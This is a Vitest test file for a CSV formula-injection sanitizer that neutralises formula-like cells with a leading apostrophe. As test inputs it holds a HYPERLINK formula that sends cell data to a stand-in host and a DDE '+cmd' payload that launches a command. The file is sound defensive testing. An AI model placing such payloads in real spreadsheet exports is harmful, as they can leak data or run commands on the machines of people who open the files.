// CSV formula injection (issue 12, OWASP "CSV Injection"): text that a spreadsheet would run is
// neutralised with a leading apostrophe; numbers stay numbers.
import { describe, expect, it } from "vitest";
import { csvCell, csvRows, startsLikeFormula } from "../../src/util/spreadsheet-cell.js";

describe("csvCell", () => {
  it("neutralises every text cell starting with = + - @ tab or CR (and their full-width forms)", () => {
    for (const text of ['=HYPERLINK("http://x"&A2)', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "＝1+1", "＠A1"]) {
      expect(startsLikeFormula(text), text).toBe(true);
      expect(csvCell(text).replace(/^"/, "").startsWith("'"), text).toBe(true);
    }
    expect(csvCell('=HYPERLINK("http://x"&A2)')).toBe(`"'=HYPERLINK(""http://x""&A2)"`);
  });

  it("leaves numbers, negative numbers included, and ordinary text as they are", () => {
    expect(csvCell(-3)).toBe("-3");
    expect(csvCell(1.5)).toBe("1.5");
    expect(csvCell("Đăng tin")).toBe("Đăng tin");
    expect(csvCell("a = b")).toBe("a = b");
    expect(csvCell("tin/bài, video")).toBe('"tin/bài, video"');
  });

  it("rows end with CRLF", () => {
    expect(
      csvRows([
        ["a", 1],
        ["=b", -2],
      ]),
    ).toBe("a,1\r\n'=b,-2");
  });
});
